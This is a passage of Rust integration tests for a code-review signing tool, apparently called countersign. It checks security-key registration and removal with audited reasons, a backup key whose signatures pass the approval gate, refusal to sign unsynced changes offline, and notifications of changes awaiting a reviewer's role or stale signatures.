        outbox.items[0].state,
        countersign_api::contract::OutboxState::Pending
    );
    assert!(outbox.items[0]
        .last_error
        .as_deref()
        .is_some_and(|e| e.contains("signed offline")));
    assert!(!gate(&sandbox, 43).await.approved);
}

/// Issue 14: "My signing identity" — what this device's key is, its age,
/// the session, and the security keys, which can be removed with a reason.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn my_signing_identity_lists_the_key_the_session_and_removes_a_security_key() {
    use countersign_api::contract::{RemoveSecurityKey, SecurityKeyRequest};
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let status = bob.session.signer_status().await.unwrap();
    assert!(status.enrolled_at.is_some() && status.password_set_at.is_some());
    assert_eq!(status.session_ends_at, None, "no signature yet, no session");
    assert!(status
        .enrolment_record
        .as_deref()
        .is_some_and(|r| r.contains("Bob Okafor") && !r.contains("sealed")));

    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    let status = bob.session.signer_status().await.unwrap();
    assert!(
        status.session_ends_at.is_some(),
        "a signature opens the session"
    );

    bob.session.set_security_key_device(Arc::new(SoftKey(
        std::sync::Mutex::new(webauthn_authenticator_rs::softpasskey::SoftPasskey::new(
            true,
        )),
        true,
    )));
    let status = bob
        .session
        .register_security_key(SecurityKeyRequest {
            pin: Some(Secret::from("123456")),
        })
        .await
        .unwrap();
    let id = status.security_key_ids[0].clone();
    let no_reason = bob
        .session
        .remove_security_key(RemoveSecurityKey {
            credential_id: id.clone(),
            reason: " ".into(),
        })
        .await;
    assert!(no_reason.is_err());
    let status = bob
        .session
        .remove_security_key(RemoveSecurityKey {
            credential_id: id.clone(),
            reason: "Left in a hotel".into(),
        })
        .await
        .unwrap();
    assert!(status.security_key_ids.is_empty());
    let trail = bob
        .session
        .audit_trail(countersign_api::contract::AuditFilter::default())
        .await
        .unwrap();
    assert!(trail.rows.iter().any(|r| r.kind == "key_revocation"
        && r.object == format!("security-key:{id}")
        && r.reason.as_deref() == Some("Left in a hotel")));
}

/// Issue 14: a backup security key. Both keys are registered and reach the
/// roster; a record confirmed by the backup verifies at the gate.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_backup_security_key_confirms_a_record_the_gate_accepts() {
    use countersign_api::contract::SecurityKeyRequest;
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let soft = || {
        Arc::new(SoftKey(
            std::sync::Mutex::new(webauthn_authenticator_rs::softpasskey::SoftPasskey::new(
                true,
            )),
            true,
        ))
    };
    let pin = || SecurityKeyRequest {
        pin: Some(Secret::from("123456")),
    };
    become_(&sandbox, "bob-qa");
    bob.session.set_security_key_device(soft());
    bob.session.register_security_key(pin()).await.unwrap();
    let backup = soft();
    bob.session.set_security_key_device(backup);
    let status = bob.session.register_security_key(pin()).await.unwrap();
    assert_eq!(status.security_key_ids.len(), 2);
    let backup_id = status.security_key_ids[1].clone();
    let policy = String::from_utf8(
        sandbox.store().read().unwrap().repos[0].base_files[".countersign/policy.toml"].clone(),
    )
    .unwrap();
    assert!(
        policy.contains(&backup_id),
        "the roster lists the backup key"
    );

    let draft = SignatureDraft {
        use_security_key: true,
        security_key_id: Some(backup_id),
        ..kit::draft(43, "qa", Meaning::Approval)
    };
    bob.sign_only(draft, PASSWORD, Some("123456"))
        .await
        .unwrap();
    assert_eq!(bob.session.push_outbox().await.unwrap().failed, 0);
    let g = gate(&sandbox, 43).await;
    assert!(g.approved, "{:?}", g.review.signatures);
}

/// Issue 17: the tray's count and the notifications. The first look learns
/// what is there; later looks announce a change that newly waits for one of
/// my roles and a signature of mine that went stale, never my own doing; the
/// watch judges changes nobody reviewed yet, and writes nothing to the trail.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_watch_announces_what_newly_needs_me_and_never_my_own_doing() {
    use countersign_api::attention::NoticeKind;
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let carol = device(&sandbox, "carol-clinical", "Dr. Carol Weiss").await;
    async fn look(d: &Device, sandbox: &RunningSandbox) -> countersign_api::attention::Attention {
        become_(sandbox, d.login);
        d.session.attention().await.unwrap()
    }
    let notices = |a: &countersign_api::attention::Attention| -> Vec<(NoticeKind, u32)> {
        a.notices
            .iter()
            .map(|n| (n.kind.clone(), n.change.as_ref().map_or(0, |c| c.number)))
            .collect()
    };
    async fn trail_len(d: &Device) -> usize {
        d.session
            .audit_trail(countersign_api::contract::AuditFilter::default())
            .await
            .unwrap()
            .rows
            .len()
    }

    let carol_trail = trail_len(&carol).await;
    let first = look(&bob, &sandbox).await;
    assert!(first.notices.is_empty(), "opening the app is not news");
    let waiting: Vec<u32> = first.waiting.iter().map(|(c, _)| c.number).collect();
    assert!(
        waiting.contains(&42),
        "judged without a review by Bob: {waiting:?}"
    );
    let first = look(&carol, &sandbox).await;
    assert!(
        !first.waiting.iter().any(|(c, _)| c.number == 42),
        "QA signs first"
    );
    assert_eq!(
        trail_len(&carol).await,
        carol_trail,
        "the watch writes no trail"
    );

    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
    let bobs = look(&bob, &sandbox).await;
    assert!(
        bobs.notices.is_empty(),
        "my own signature: {:?}",
        bobs.notices
    );
    assert!(!bobs.waiting.iter().any(|(c, _)| c.number == 42));
    let carols = look(&carol, &sandbox).await;
    assert_eq!(notices(&carols), vec![(NoticeKind::NeedsMyRole, 42)]);
    assert!(carols.notices[0].body.contains("Clamp infusion rate"));
    // Announced once.
    assert!(look(&carol, &sandbox).await.notices.is_empty());

    // The watch read #43 for Bob but Bob never did: nothing of it may be
    // signed without the forge (what is signed offline is what a person read).
    allow_offline_signing(&sandbox);
    become_(&sandbox, "bob-qa");
    look(&bob, &sandbox).await;
    forge_away(&sandbox, true);
    let refused = sign_offline(&bob, 43).await.unwrap_err();
    assert!(refused.message.contains("never synced"), "{refused:?}");
    forge_away(&sandbox, false);

    // Somebody else moves the change: Bob's signature no longer counts.
    edit_pull(&sandbox, 42, |pr| pr.head_sha = "d".repeat(40));
    let bobs = look(&bob, &sandbox).await;
    assert!(
        notices(&bobs).contains(&(NoticeKind::MySignatureStale, 42)),
        "{:?}",
        bobs.notices
    );
}
